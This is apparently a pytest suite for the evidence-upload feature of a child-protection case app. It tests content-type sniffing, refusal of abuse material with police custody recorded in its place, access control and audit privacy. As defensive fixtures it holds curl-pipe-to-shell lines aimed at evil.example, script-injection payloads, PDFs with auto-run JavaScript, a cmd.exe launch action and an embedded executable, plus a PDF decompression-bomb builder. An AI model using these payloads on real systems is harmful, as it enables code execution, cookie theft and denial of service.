"""Evidence: attachments whose type is read from their content, sealed under the
case's key, handed out only through an audited download; no sexual abuse
material ever uploaded, where it is held recorded instead."""
from __future__ import annotations

import io
import json
import re
import struct
import zlib
from html import unescape

import pytest
from flask_babel import force_locale
from flask_migrate import upgrade
from sqlalchemy import func, select, text

import audit
from caseapp import MIGRATIONS_DIR, clock, create_app
from caseapp.cases import reference_data, service
from caseapp.cases.errors import CaseConflict, CaseError, CaseNotFound
from caseapp.cases.models import Case
from caseapp.crypto import key_scope, sqlite_scrub
from caseapp.evidence import service as evidence
from caseapp.evidence import sniffing
from caseapp.evidence.models import Attachment
from caseapp.extensions import db
from caseapp.permissions import PermissionDenied
from tests.case_actions import section_page
from tests.case_screens.conftest import act, token
from tests.cases.conftest import CHILD_NAME, NARRATIVE, audit_rows, intake_data
from tests.cases.test_raw_database import database_bytes, make_people
from tests.conftest import settings_for_tests

from .test_break_glass import request_glass

SAFE = ("cyberbullying",)


@pytest.fixture
def login(login):
    """The care fixture, with each user working in English: the messages checked
    below read the same before and after the Vietnamese catalog is merged."""
    def log_in(user):
        user.locale = "en"
        db.session.commit()
        return login(user)
    return log_in


# --- synthetic files ---------------------------------------------------------------------------

def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(marker: bytes = b"") -> bytes:
    """A real 1x1 PNG; ``marker`` goes into a text chunk."""
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    extra = _chunk(b"tEXt", b"Comment\x00" + marker) if marker else b""
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra
            + _chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + _chunk(b"IEND", b""))


def make_pdf(change=None, **save) -> bytes:
    """A real one-page PDF (pikepdf), optionally changed before it is saved."""
    import io

    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


PDF = make_pdf()
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00"
       b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
WEBP = (b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11"
        b"\x11\x88\x88\xfe\x07\x00")
TEXT = "Tin nhắn của tài khoản lạ lúc 22:14:\r\n\t«Gửi ảnh cho anh nếu không…» <3\n".encode()

SPOOFS = {
    "shell script": b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
    "html": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
    "html fragment": b"hello <script>fetch('/cases')</script>",
    "svg": (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
            b'onload="alert(1)"><script>alert(2)</script></svg>'),
    "svg with a bom": "\ufeff<svg xmlns='http://www.w3.org/2000/svg'/>".encode(),
    "elf program": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "zip archive": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 30,
    "windows program": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff",
    "png signature only": b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
    "text with nul": b"ordinary text\x00 with a NUL",
    "utf-16 text": "Tin nhắn".encode("utf-16-le"),
}
# Plain text by its content, refused because its name and label say it is an image.
DISGUISED = dict(SPOOFS, **{"script without a shebang": b"curl http://x.example/x | sh\n"})


# --- helpers ----------------------------------------------------------------------------------

def post_file(client, reference, content, filename="anh-chup.png", content_type="image/png", *,
              confirm=True, description="", csrf=True):
    data = {"evidence-file": (io.BytesIO(content), filename, content_type),
            "evidence-description": description}
    if confirm:
        data["evidence-confirm_no_abuse"] = "y"
    if csrf:
        data["evidence-csrf_token"] = token(client, f"/cases/{reference}")
    response = client.post(f"/cases/{reference}/evidence", data=data,
                           content_type="multipart/form-data")
    # The test client spools a large body to a temporary file that it closes
    # only after following redirects: close it here.
    response.request.input_stream.close()
    return response


def post_custody(client, case, *, csrf=True, version=None, **fields):
    data = {f"custody-{k}": v for k, v in fields.items()}
    data["custody-version"] = str(case.version_id if version is None else version)
    if csrf:
        data["custody-csrf_token"] = token(client, f"/cases/{case.reference}")
    return client.post(f"/cases/{case.reference}/evidence/custody", data=data)


def attachments(case) -> list[Attachment]:
    db.session.expire_all()
    return list(db.session.scalars(select(Attachment).where(Attachment.case_id == case.id)))


def details(action, **where) -> list[dict]:
    return [json.loads(r.details) for r in audit_rows(action=action, **where)]


def all_audit_text() -> str:
    rows = db.session.execute(select(audit.audit_entries)).all()
    return "\n".join(repr(tuple(r)) for r in rows)


def download_url(case, attachment_id):
    return f"/cases/{case.reference}/evidence/{attachment_id}"


def panel(page: str) -> str:
    return page.split('id="evidence"', 1)[1].split("</section>", 1)[0]


# --- sniffing ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("content", "expected"), [
    (png(), "image/png"), (JPEG, "image/jpeg"), (GIF, "image/gif"), (WEBP, "image/webp"),
    (PDF, "application/pdf"), (TEXT, "text/plain"), (b"<3 em nho anh", "text/plain"),
    ("\ufeffVăn bản có BOM".encode(), "text/plain"),
])
def test_accepted_types_are_read_from_content(content, expected):
    assert evidence.sniff(content) == expected


@pytest.mark.parametrize("name", sorted(SPOOFS))
def test_anything_else_is_not_a_type(name):
    assert evidence.sniff(SPOOFS[name]) is None


def test_control_characters_make_text_binary():
    assert evidence.sniff(b"bell \x07 here") is None
    assert evidence.sniff("C1 \u0085 control".encode()) is None
    assert evidence.sniff(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj without an end") is None


# --- uploading and downloading ----------------------------------------------------------------

@pytest.mark.parametrize(("content", "filename", "declared", "media_type", "ext"), [
    (png(), "Ảnh chụp màn hình.png", "image/png", "image/png", "png"),
    (PDF, "bien-ban.pdf", "application/pdf", "application/pdf", "pdf"),
    (TEXT, "tin-nhan.txt", "text/plain", "text/plain", "txt"),
])
def test_round_trip(people, login, make_case, content, filename, declared, media_type, ext):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    response = post_file(client, case.reference, content, filename, declared,
                         description="Ảnh chụp tin nhắn đe doạ")
    assert response.status_code == 302
    (stored,) = attachments(case)
    # Only a rounded size is in clear: an exact size would help confirm a known file.
    assert stored.media_type == media_type and stored.size_bytes == sniffing.SIZE_BUCKET
    assert stored.uploaded_by_id == people.officer.id
    # Listed with its details for the people on the case.
    section = panel(section_page(client, case.reference, "evidence"))
    assert filename in section and "Ảnh chụp tin nhắn đe doạ" in section
    assert download_url(case, stored.id) in section and 'enctype="multipart/form-data"' in section
    # Downloaded as what the content is, under a generic name, never cached or rendered.
    got = client.get(download_url(case, stored.id))
    assert got.status_code == 200 and got.data == content
    assert got.mimetype == media_type
    assert got.headers["Content-Disposition"] == \
        f'attachment; filename="{case.reference}-evidence-1.{ext}"'
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    assert got.headers["Cache-Control"] == "no-store"
    assert "sandbox" in got.headers["Content-Security-Policy"]
    assert "default-src 'self'" in got.headers["Content-Security-Policy"]
    assert filename not in str(got.headers)
    # Audited with ids and codes only.
    assert details("case.attachment_upload", object_id=case.reference) == [
        {"attachment_id": stored.id, "media_type": media_type,
         "size_bytes": sniffing.SIZE_BUCKET}]
    assert details("case.attachment_download", object_id=case.reference) == [
        {"via": "assignment", "attachment_id": stored.id, "route": "evidence.download"}]


def test_text_is_served_as_utf8(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    post_file(client, case.reference, TEXT, "tin-nhan.txt", "text/plain")
    (stored,) = attachments(case)
    got = client.get(download_url(case, stored.id))
    assert got.headers["Content-Type"] == "text/plain; charset=utf-8"


def test_the_type_follows_the_content_not_the_name(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    assert post_file(client, case.reference, png(), "ghi-chu.txt", "text/plain").status_code == 302
    (stored,) = attachments(case)
    assert stored.media_type == "image/png"
    got = client.get(download_url(case, stored.id))
    assert got.mimetype == "image/png" and got.headers["Content-Disposition"].endswith('.png"')


@pytest.mark.parametrize("name", sorted(DISGUISED))
def test_a_disguised_file_is_refused_and_nothing_is_stored(people, login, make_case, name):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    response = post_file(client, case.reference, DISGUISED[name], "anh.png", "image/png")
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Nothing was saved" in page and 'data-action="evidence_upload"' in page
    assert attachments(case) == []
    assert audit_rows(action="case.attachment_upload") == []


def test_text_dressed_as_an_image_is_refused(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    for filename, declared in (("anh.png", "text/plain"), ("ghi-chu.txt", "image/png"),
                               ("van-ban.pdf", "application/octet-stream")):
        response = post_file(client, case.reference, b"just some words\n", filename, declared)
        assert response.status_code == 422
        assert "named or labelled as an image or a PDF" in response.get_data(as_text=True)
    assert attachments(case) == []


def test_empty_missing_and_oversize_files(people, login, make_case, app):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    response = post_file(client, case.reference, b"", "anh.png")
    assert response.status_code == 422 and "The file is empty" in response.get_data(as_text=True)
    response = post_file(client, case.reference, b"", "")
    assert response.status_code == 422 and "Choose a file" in response.get_data(as_text=True)
    # A forged form whose "file" is a text field.
    response = client.post(f"/cases/{case.reference}/evidence", data={
        "evidence-csrf_token": token(client, f"/cases/{case.reference}"),
        "evidence-file": "<script>alert(1)</script>", "evidence-confirm_no_abuse": "y"})
    assert response.status_code == 422 and "Choose a file" in response.get_data(as_text=True)
    response = post_file(client, case.reference, png(), description="x" * 1001)
    assert response.status_code == 422 and "too long" in response.get_data(as_text=True)
    limit = app.config["ATTACHMENT_MAX_BYTES"]
    assert limit == 8 * 1024 * 1024 < app.config["MAX_CONTENT_LENGTH"]
    big = png() + b"\x00" * (limit + 1 - len(png()))
    response = post_file(client, case.reference, big, "anh.png")
    assert response.status_code == 422
    assert "The file is too large: at most 8 MB" in response.get_data(as_text=True)
    # Exactly at the limit is fine.
    assert post_file(client, case.reference, big[:limit], "anh.png").status_code == 302
    # A request over MAX_CONTENT_LENGTH is cut off before any of it is read.
    huge = png() + b"\x00" * app.config["MAX_CONTENT_LENGTH"]
    assert post_file(client, case.reference, huge, "anh.png").status_code == 413
    assert len(attachments(case)) == 1


def test_upload_needs_the_confirmation(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    response = post_file(client, case.reference, png(), confirm=False)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Confirm that this file does not show sexual abuse of a child" in page
    assert attachments(case) == []
    with pytest.raises(CaseError) as refused:
        evidence.upload(people.officer, case, evidence.UploadData(content=png(),
                                                                  filename="a.png"))
    assert refused.value.field == "confirm_no_abuse"


def test_the_same_file_twice_is_refused(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    assert post_file(client, case.reference, png()).status_code == 302
    response = post_file(client, case.reference, png(), "lan-nua.png")
    assert response.status_code == 422
    assert "already attached to this case (evidence 1)" in response.get_data(as_text=True)
    assert len(attachments(case)) == 1


def test_numbers_follow_upload_order(people, login, make_case, travel):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    for content in (png(), PDF, TEXT):
        post_file(client, case.reference, content, "x", "application/octet-stream")
        travel(seconds=5)
    listed = evidence.attachments_of(case)
    assert [a.media_type for a in listed] == ["image/png", "application/pdf", "text/plain"]
    got = client.get(download_url(case, listed[2].id))
    assert got.headers["Content-Disposition"] == \
        f'attachment; filename="{case.reference}-evidence-3.txt"'


def test_the_intake_recorder_may_upload_at_intake(people, login, make_case):
    case = make_case("intake", harm_categories=SAFE)
    client = login(people.counselor)
    assert post_file(client, case.reference, JPEG, "anh.jpg", "image/jpeg").status_code == 302
    assert [a.media_type for a in attachments(case)] == ["image/jpeg"]


# --- sexual abuse material ------------------------------------------------------------------

@pytest.mark.parametrize("category", reference_data.ABUSE_MATERIAL_CATEGORIES)
def test_csam_upload_is_refused_with_what_to_do_instead(people, login, make_case, category):
    assert "csam" in reference_data.ABUSE_MATERIAL_CATEGORIES
    case = make_case("support", harm_categories=(category, "cyberbullying"))
    client = login(people.officer)
    page = section_page(client, case.reference, "evidence")
    section = panel(page)
    assert 'id="no-abuse-material"' in section
    assert 'data-action="evidence_upload"' not in section
    assert 'data-action="evidence_custody"' in section
    # A forged or stale upload is refused all the same, with the explanation.
    response = post_file(client, case.reference, png(), "bang-chung.png")
    assert response.status_code == 422
    refused = panel(response.get_data(as_text=True))
    for words in ("never uploaded, copied or forwarded", "Hand it", "to the police",
                  "which police unit has it (unit, officer, reference)",
                  "Nothing was uploaded"):
        assert words in refused
    assert attachments(case) == []
    assert audit_rows(action="case.attachment_upload") == []
    assert details("case.attachment_refused", object_id=case.reference) == [
        {"reason": "abuse_material_category"}]
    with pytest.raises(CaseError):
        evidence.upload(people.officer, case, evidence.UploadData(
            content=png(), filename="a.png", confirmed_no_abuse=True))
    assert attachments(case) == []


def test_the_refusal_reads_in_the_users_language(people, login, make_case, app):
    case = make_case("support", harm_categories=("csam",))
    client = login(people.officer)
    people.officer.locale = "vi"
    db.session.commit()
    response = post_file(client, case.reference, png())
    assert response.status_code == 422
    with force_locale("vi"):
        expected = str(evidence.refusal_message())
    assert expected in unescape(response.get_data(as_text=True))


def test_custody_is_recorded_sealed_and_audited_without_values(people, login, make_case):
    case = make_case("support", harm_categories=("csam",))
    client = login(people.officer)
    values = {"location": "Điện thoại của em, đã giao cho công an ngày 12/03",
              "police_unit": "Phòng An ninh mạng Công an tỉnh Hoà Bình",
              "police_officer": "Thiếu tá Đỗ Văn Tiến", "police_reference": "ANM-2026-0457"}
    response = post_custody(client, case, **values)
    assert response.status_code == 302
    section = panel(section_page(client, case.reference, "evidence"))
    for value in values.values():
        assert value in section
    assert details("case.evidence_custody", object_id=case.reference) == [
        {"changed": ["location", "police_unit", "police_officer", "police_reference"]}]
    logged = all_audit_text()
    assert not any(value in logged for value in values.values())
    db.session.expire_all()
    raw = db.session.execute(text(
        "SELECT evidence_location, evidence_police_unit, evidence_police_officer, "
        "evidence_police_reference FROM cases WHERE id = :id"), {"id": case.id}).one()
    for blob, value in zip(raw, values.values(), strict=True):
        assert blob is not None and value.encode() not in bytes(blob)
    # Changing one field records only its name.
    db.session.refresh(case)
    post_custody(client, case, **dict(values, police_reference="ANM-2026-0458"))
    assert details("case.evidence_custody", object_id=case.reference)[-1] == {
        "changed": ["police_reference"]}


def test_custody_needs_a_location_and_the_current_version(people, login, make_case):
    case = make_case("support", harm_categories=("csam",))
    client = login(people.officer)
    response = post_custody(client, case, location="  ", police_unit="Công an huyện")
    assert response.status_code == 422
    assert "Say where the material is held" in response.get_data(as_text=True)
    stale = case.version_id
    assert post_custody(client, case, location="Công an huyện giữ").status_code == 302
    db.session.refresh(case)
    response = post_custody(client, case, version=stale, location="Chỗ khác")
    assert response.status_code == 409
    db.session.refresh(case)
    assert case.evidence_location == "Công an huyện giữ"
    with pytest.raises(CaseConflict):
        evidence.record_custody(people.officer, case, evidence.CustodyData(location="x"),
                                expected_version=stale)


def test_custody_form_is_offered_on_other_cases_too(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    section = panel(section_page(login(people.officer), case.reference, "evidence"))
    assert 'data-action="evidence_upload"' in section
    assert 'data-action="evidence_custody"' in section and "<details" in section


# --- who may do what --------------------------------------------------------------------------

def test_metadata_viewer_sees_only_the_count(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    officer = login(people.officer)
    post_file(officer, case.reference, png(), f"{CHILD_NAME}.png", description=NARRATIVE)
    (stored,) = attachments(case)
    supervisor = login(people.supervisor)
    section = panel(section_page(supervisor, case.reference, "evidence"))
    assert 'id="evidence-count"' in section and "Files of evidence: 1" in section
    assert CHILD_NAME not in section and stored.id not in section
    assert "<form" not in section
    response = supervisor.get(download_url(case, stored.id))
    assert response.status_code == 403 and response.data != png()
    assert details("case.denied", actor_id=people.supervisor.id)[-1] == {
        "action": "attachment_download"}
    assert audit_rows(action="case.attachment_download") == []
    with pytest.raises(PermissionDenied):
        evidence.download(people.supervisor, case, stored.id)


@pytest.mark.parametrize("who", ["other_officer", "other_supervisor", "admin"])
def test_outside_the_unit_the_case_does_not_exist(people, login, make_case, who):
    case = make_case("support", harm_categories=SAFE)
    post_file(login(people.officer), case.reference, png())
    (stored,) = attachments(case)
    client = login(getattr(people, who))
    assert client.get(download_url(case, stored.id)).status_code == 404
    assert post_file(client, case.reference, PDF, "x.pdf").status_code == 404
    denied = [d["action"] for d in details("case.denied", object_id=case.reference)]
    assert "web:evidence_download" in denied
    assert audit_rows(action="case.attachment_download") == []
    with pytest.raises(CaseNotFound):
        evidence.download(getattr(people, who), case, stored.id)


def test_break_glass_lists_the_files_but_hands_out_no_copy(people, login, make_case):
    """Break-glass is read-only on screen: the supervisor sees what the files are,
    not the files (a download is a copy that leaves the app); refusals audited."""
    case = make_case("support", harm_categories=SAFE)
    post_file(login(people.officer), case.reference, png())
    (stored,) = attachments(case)
    supervisor = login(people.supervisor)
    assert request_glass(supervisor, case.reference).status_code == 302
    section = panel(section_page(supervisor, case.reference, "evidence"))
    assert 'data-attachment="' in section and download_url(case, stored.id) not in section
    assert "<form" not in section  # read-only: no upload either
    response = supervisor.get(download_url(case, stored.id))
    assert response.status_code == 403 and response.data != png()
    assert details("case.denied", actor_id=people.supervisor.id)[-1] == {
        "action": "attachment_download"}
    assert details("case.attachment_download", actor_id=people.supervisor.id) == []
    assert post_file(supervisor, case.reference, PDF, "x.pdf").status_code == 403
    assert len(attachments(case)) == 1


def test_upload_refused_to_a_metadata_viewer_and_on_a_restricted_case(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    supervisor = login(people.supervisor)
    assert post_file(supervisor, case.reference, png()).status_code == 403
    assert details("case.denied", actor_id=people.supervisor.id)[-1] == {
        "action": "attachment_upload"}
    case.restricted_at = clock.now()
    db.session.commit()
    officer = login(people.officer)
    response = officer.get(f"/cases/{case.reference}")
    assert 'data-action="evidence_upload"' not in response.get_data(as_text=True)
    assert 'data-action="evidence_upload"' not in section_page(officer, case.reference,
                                                               "evidence")
    response = post_file(officer, case.reference, png())
    assert response.status_code in (403, 404)
    with pytest.raises((PermissionDenied, CaseNotFound)):
        evidence.upload(people.officer, case, evidence.UploadData(
            content=png(), filename="a.png", confirmed_no_abuse=True))
    assert attachments(case) == []


def test_unknown_or_foreign_attachment_ids_are_404_and_never_logged(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    other = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    post_file(client, other.reference, png())
    (foreign,) = attachments(other)
    for segment in ("Pham-Thi-Quynh-Nhu", "00000000-0000-4000-8000-000000000000", foreign.id,
                    foreign.id.upper()):
        assert client.get(download_url(case, segment)).status_code == 404
    assert "Pham-Thi-Quynh-Nhu" not in all_audit_text()
    assert audit_rows(action="case.attachment_download") == []


def test_forms_without_the_csrf_token_are_refused(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    assert post_file(client, case.reference, png(), csrf=False).status_code == 400
    assert post_custody(client, case, csrf=False, location="Công an giữ").status_code == 400
    assert attachments(case) == []
    db.session.refresh(case)
    assert case.evidence_location is None or case.evidence_location != "Công an giữ"


def test_audit_holds_no_file_name_description_or_content(people, login, make_case):
    case = make_case("support", harm_categories=SAFE)
    client = login(people.officer)
    marker = b"EVIDENCE-MARKER-5c1d"
    post_file(client, case.reference, png(marker), f"{CHILD_NAME} - tin nhắn.png",
              description=NARRATIVE)
    post_file(client, case.reference, TEXT, "Quỳnh Như.txt", "text/plain")
    for stored in attachments(case):
        client.get(download_url(case, stored.id))
    logged = all_audit_text()
    for secret in (CHILD_NAME, "Quỳnh Như", NARRATIVE, "tin nhắn", marker.decode(),
                   "Gửi ảnh cho anh"):
        assert secret not in logged
    # The digest is sealed too: a known file cannot be confirmed from the table.
    raw = db.session.execute(text("SELECT filename, description, sha256, content "
                                  "FROM case_attachments")).all()
    for row in raw:
        blob = b"".join(bytes(value) for value in row if value is not None)
        assert marker not in blob and CHILD_NAME.encode() not in blob


def test_downloads_are_listed_on_who_has_seen_this_child(people, login, make_case):
    case = make_case("support", harm_categories=SAFE, assignees=[people.officer2])
    officer = login(people.officer)
    post_file(officer, case.reference, png())
    (stored,) = attachments(case)
    assert login(people.officer2).get(download_url(case, stored.id)).status_code == 200
    page = section_page(officer, case.reference, "who-viewed")
    section = page.split('id="who-viewed"', 1)[1].split("</details>", 1)[0]
    # The kind of access in words, never the route it went through.
    assert "downloaded evidence" in section and "cb.hoa" in section
    assert "evidence.download" not in section


# --- the bytes on disk --------------------------------------------------------------------------

@pytest.fixture
def own_app(tmp_path):
    path = tmp_path / "raw.db"
    app = create_app(settings_for_tests(str(tmp_path), SQLALCHEMY_DATABASE_URI=f"sqlite:///{path}"),
                     env="testing")
    with app.app_context():
        upgrade(directory=MIGRATIONS_DIR)
    try:
        yield app, path
    finally:
        with app.app_context():
            db.session.remove()
            db.engine.dispose()


@pytest.mark.no_db_isolation
def test_uploaded_bytes_are_not_in_the_database_file(own_app):
    app, path = own_app
    marker = b"RAW-EVIDENCE-MARKER-91b7e2"
    words = "Lời nhắn đe doạ gửi lúc nửa đêm cho Quỳnh Như"
    with app.app_context():
        with key_scope():
            people = make_people()
            case = service.record_intake(people.counselor, intake_data("XA", harm_categories=SAFE))
            evidence.upload(people.counselor, case, evidence.UploadData(
                content=png(marker), filename="anh-rieng-tu.png", confirmed_no_abuse=True))
            evidence.upload(people.counselor, case, evidence.UploadData(
                content=words.encode(), filename="loi-nhan.txt", confirmed_no_abuse=True,
                description="Mô tả bằng chứng bí mật"))
        db.session.commit()
        reference = db.session.scalar(select(Case.reference))
        assert db.session.scalar(select(func.count()).select_from(Attachment)) == 2
        db.session.remove()
        sqlite_scrub(db.engine)
        db.engine.dispose()
    raw = database_bytes(path)
    assert reference.encode() in raw and b"image/png" in raw  # positive controls
    for secret in (marker, words.encode(), b"anh-rieng-tu", b"loi-nhan",
                   "Mô tả bằng chứng".encode(), b"IHDR"):
        assert secret not in raw, secret
    assert not re.search(rb"\x89PNG\r\n\x1a\n", raw)


def _open_action_script(pdf):
    import pikepdf

    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://x.example/seen')")))


def _launch_on_page(pdf):
    import pikepdf

    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def _embedded_file(pdf):
    import pikepdf

    pdf.attachments["x.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload")


def _link(pdf):
    import pikepdf

    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                           Rect=[0, 0, 10, 10], A=pikepdf.Dictionary(
                               S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org"))))]))


@pytest.mark.parametrize("change,save", [
    (_open_action_script, {}),
    # the same script inside a compressed object stream: a byte search would miss it
    (_open_action_script, {"object_stream_mode": "generate"}),
    (_launch_on_page, {}),
    (_embedded_file, {}),
])
def test_an_active_pdf_is_refused(people, make_case, change, save):
    import pikepdf

    case = make_case("support", harm_categories=SAFE)
    mode = getattr(pikepdf.ObjectStreamMode, save.get("object_stream_mode", "preserve"))
    content = make_pdf(change, object_stream_mode=mode)
    assert evidence.sniff(content) == "application/pdf"
    with pytest.raises(CaseError) as error:
        evidence.upload(people.officer, case, evidence.UploadData(
            content=content, filename="tin-nhan.pdf", confirmed_no_abuse=True))
    assert error.value.field == "file" and attachments(case) == []


def test_a_pdf_with_plain_links_is_kept(people, make_case):
    case = make_case("support", harm_categories=SAFE)
    row = evidence.upload(people.officer, case, evidence.UploadData(
        content=make_pdf(_link), filename="tin-nhan.pdf", confirmed_no_abuse=True))
    assert row.media_type == "application/pdf"


def test_a_password_protected_pdf_is_refused(people, make_case):
    import pikepdf

    case = make_case("support", harm_categories=SAFE)
    content = make_pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    with pytest.raises(CaseError):
        evidence.upload(people.officer, case, evidence.UploadData(
            content=content, filename="x.pdf", confirmed_no_abuse=True))
    assert attachments(case) == []


def test_a_category_an_admin_marks_as_abuse_material_refuses_uploads(people, make_case):
    from caseapp.cases import reference_data

    reference_data.save_entry(people.admin, "harm_category", "child_images",
                              "Hình ảnh xâm hại trẻ em", "Child sexual abuse images",
                              abuse_material=True)
    case = make_case("support", harm_categories=("child_images",))
    with pytest.raises(CaseError) as error:
        evidence.upload(people.officer, case, evidence.UploadData(
            content=png(), filename="x.png", confirmed_no_abuse=True))
    assert error.value.field == "file" and attachments(case) == []
    with pytest.raises(CaseError):
        reference_data.save_entry(people.admin, "platform", "forum", "Diễn đàn", "Forum",
                                  abuse_material=True)


def test_a_case_recategorised_as_sextortion_refuses_uploads_from_then_on(people, login,
                                                                        make_case):
    case = make_case("support", harm_categories=SAFE)
    officer = login(people.officer)
    assert post_file(officer, case.reference, png()).status_code == 302
    # Someone outside the case cannot change what it is about (404, audited).
    with pytest.raises(CaseNotFound):
        service.set_harm_categories(people.other_officer, case, ("sextortion",))
    response = act(officer, case.reference, "harm_categories",
                   harm_categories=["sextortion", "cyberbullying"])
    assert response.status_code == 302, response.get_data(as_text=True)
    db.session.refresh(case)
    assert set(case.harm_category_codes) == {"sextortion", "cyberbullying"}
    (entry,) = audit_rows(action="case.harm_categories")
    assert "sextortion" in entry.details
    assert post_file(officer, case.reference, PDF, "x.pdf").status_code == 422
    assert len(attachments(case)) == 1
    assert act(officer, case.reference, "harm_categories").status_code == 422  # none chosen


def test_a_case_holds_a_bounded_number_of_files(people, make_case, app, monkeypatch):
    monkeypatch.setitem(app.config, "ATTACHMENT_MAX_PER_CASE", 2)
    case = make_case("support", harm_categories=SAFE)
    for content in (png(), PDF):
        evidence.upload(people.officer, case, evidence.UploadData(
            content=content, filename="x", confirmed_no_abuse=True))
    with pytest.raises(CaseError) as error:
        evidence.upload(people.officer, case, evidence.UploadData(
            content=TEXT, filename="x.txt", confirmed_no_abuse=True))
    assert error.value.field == "file" and len(attachments(case)) == 2


def test_an_abuse_material_kind_cannot_be_taken_off_to_open_uploads(people, make_case):
    case = make_case("support", harm_categories=("csam",))
    for actor in (people.officer, people.supervisor):
        with pytest.raises(CaseError) as error:
            service.set_harm_categories(actor, case, ("cyberbullying",))
        assert error.value.field == "harm_categories"
    assert case.harm_category_codes == ["csam"]
    service.set_harm_categories(people.officer, case, ("csam", "cyberbullying"))  # adding is fine
    with pytest.raises(CaseError):
        evidence.upload(people.officer, case, evidence.UploadData(
            content=png(), filename="x.png", confirmed_no_abuse=True))


def test_the_lead_officer_cannot_recategorise_a_restricted_case(people, make_case):
    from caseapp.data_rights.service import (
        DataAnswerData,
        DataRequestData,
        answer_request,
        record_request,
    )

    case = make_case("support", harm_categories=SAFE)
    row = record_request(people.officer, case, DataRequestData("restrict", "child"))
    answer_request(people.supervisor, case, row.id, DataAnswerData("granted", "Đồng ý"))
    with pytest.raises(PermissionDenied):
        service.set_harm_categories(people.officer, case, ("grooming",))
    assert set(case.harm_category_codes) == set(SAFE)


def _array_bomb(items: int) -> bytes:
    """A PDF of a few KB whose compressed object stream holds one array of
    ``items`` numbers: qpdf expands it in full (a hostile review's proof)."""
    import struct

    compressed = zlib.compress(b"4 0 [" + b"0 " * items + b"]", 9)
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}

    def obj(number, content):
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + content + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R /Big 4 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")
    obj(5, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(compressed) + compressed + b"\nendstream")
    xref_at = len(out)
    rows = [(0, 0, 255), (1, offsets[1], 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 5, 0),
            (1, offsets[5], 0), (1, xref_at, 0)]
    data = b"".join(struct.pack(">BIH", *r) for r in rows)
    out.extend(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n"
               b"stream\n" % len(data) + data
               + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


def test_a_pdf_is_parsed_outside_the_worker_and_refused_past_its_limits(
        people, make_case, monkeypatch):
    """A few KB can expand to gigabytes in the parser: parsing happens in a child
    process with a memory and CPU cap, and a PDF that does not fit them is refused."""
    import resource

    from caseapp.evidence import pdf_scan

    case = make_case("support", harm_categories=SAFE)
    bomb = _array_bomb(5_000_000)
    assert len(bomb) < 20_000 and evidence.sniff(bomb) == "application/pdf"
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    pdf_scan.check(bomb, seconds=5)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024  # KiB
